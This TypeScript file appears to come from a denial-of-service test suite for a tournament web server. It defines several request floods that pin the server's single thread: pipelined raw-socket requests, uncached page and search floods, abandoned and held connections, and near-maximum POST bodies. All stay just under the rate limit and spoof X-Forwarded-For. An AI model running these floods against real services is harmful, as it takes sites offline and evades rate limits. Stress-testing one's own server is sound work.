/** Floods of requests that keep the web server's only thread busy. Each flood runs once from one address and once from twenty. Fault 119 */
import http from "node:http";
import type { AttackTarget } from "./attack-target.ts";
import { openPlainSocket, repeat } from "./raw-sockets.ts";

/** Floods the room from one address. Call the returned function to end the flood. */
export type PageFlood = (target: Pick<AttackTarget, "roomUrl" | "count">, address: string) => () => void;

/**
 * How long to wait between two requests. Ten requests a second is the highest rate that the web server accepts from one
 * address over a minute.
 */
const INTERVAL_MS = 100;

/** Pages that the web server renders anew for each visitor. */
const MADE_PAGES = ["/tournaments", "/sign-in", "/sign-up"] as const;
/** Pages that are the same for all visitors without a session, so the web server keeps them. */
const KEPT_PAGES = ["/", "/help"] as const;

const PIPELINED_REQUESTS = 200;

export const floodPipelined: PageFlood = ({ roomUrl, count }, address) =>
  repeat(1, INTERVAL_MS, async (onEnd) => {
    const requests = headOf(roomUrl, address, "/tournaments").repeat(PIPELINED_REQUESTS);
    const socket = openPlainSocket(roomUrl, requests, onEnd);
    count("connections");
    count("messages", PIPELINED_REQUESTS);
    return () => socket.destroy();
  });

export const floodWithPages: PageFlood = (target, address) => askEvenly(target, address, pickInTurn(MADE_PAGES));

export const floodWithKeptPages: PageFlood = (target, address) => askEvenly(target, address, pickInTurn(KEPT_PAGES));

/** Floods the room with searches. No two searches have the same text. */
export const floodWithSearches: PageFlood = (target, address) => {
  let number = 0;
  return askEvenly(target, address, () => {
    number += 1;
    return number % 2 === 0 ? `/?search=${address}-${number}` : `/tournaments?search=${address}-${number}`;
  });
};

/** How long the sender of a request waits for its answer before disconnecting. */
const ABANDONED_AFTER_MS = 40;

export const floodWithAbandonedPages: PageFlood = ({ roomUrl, count }, address) => {
  const sockets = new Set<ReturnType<typeof openPlainSocket>>();
  const pickPath = pickInTurn(MADE_PAGES);
  const timer = setInterval(() => {
    const socket = openPlainSocket(roomUrl, headOf(roomUrl, address, pickPath()), () => sockets.delete(socket));
    sockets.add(socket);
    setTimeout(() => socket.destroy(), ABANDONED_AFTER_MS);
    count("connections");
    count("messages");
  }, INTERVAL_MS);
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  };
};

const KEPT_CONNECTIONS = 100;
const NEXT_REQUEST_MS = 1_000;

/** Floods the room over many connections that stay open. On each connection, the next request is sent after the answer to the last one. */
export const floodWithConnections: PageFlood = ({ roomUrl, count }, address) =>
  repeat(KEPT_CONNECTIONS, NEXT_REQUEST_MS, async (onEnd) => {
    const pickPath = pickInTurn(MADE_PAGES);
    const head = () => headOf(roomUrl, address, pickPath());
    const socket = openPlainSocket(roomUrl, head(), onEnd);
    count("connections");
    let isWaiting = false;
    const askAgain = () => {
      if (isWaiting) return;
      isWaiting = true;
      timer = setTimeout(() => {
        isWaiting = false;
        socket.write(head());
        count("messages");
      }, NEXT_REQUEST_MS);
    };
    let timer: NodeJS.Timeout | undefined;
    socket.on("data", askAgain);
    return () => {
      clearTimeout(timer);
      socket.destroy();
    };
  });

/** A body that is a little shorter than the longest body that the web server accepts. */
const BODY = JSON.stringify({ name: "x".repeat(60_000), email: "", password: "" });

export const floodWithBodies: PageFlood = (target, address) =>
  askEvenly(target, address, () => "/api/account", {
    ...{ method: "POST", body: BODY },
    headers: { origin: target.roomUrl, "content-type": "application/json" },
  });

interface SentRequest {
  readonly method?: string;
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** Sends ten requests a second, each on a new connection. Does not wait for earlier answers. */
function askEvenly(
  { roomUrl, count }: Parameters<PageFlood>[0],
  address: string,
  pickPath: () => string,
  { method = "GET", body, headers = {} }: SentRequest = {},
): () => void {
  const open = new Set<http.ClientRequest>();
  const timer = setInterval(() => {
    const request = http.request(new URL(pickPath(), roomUrl), {
      ...{ method, agent: false },
      headers: { accept: "text/html", "x-forwarded-for": address, ...headers },
    });
    request.on("response", (answer) => answer.resume().on("error", () => {}));
    request.on("error", () => {});
    request.on("close", () => open.delete(request));
    request.end(body);
    open.add(request);
    count("connections");
    count("messages");
  }, INTERVAL_MS);
  return () => {
    clearInterval(timer);
    for (const request of open) request.destroy();
  };
}

function pickInTurn(paths: readonly string[]): () => string {
  let index = 0;
  return () => paths[index++ % paths.length] ?? "/";
}

const headOf = (roomUrl: string, address: string, path: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: ${new URL(roomUrl).host}\r\nX-Forwarded-For: ${address}\r\nAccept: text/html\r\n\r\n`;
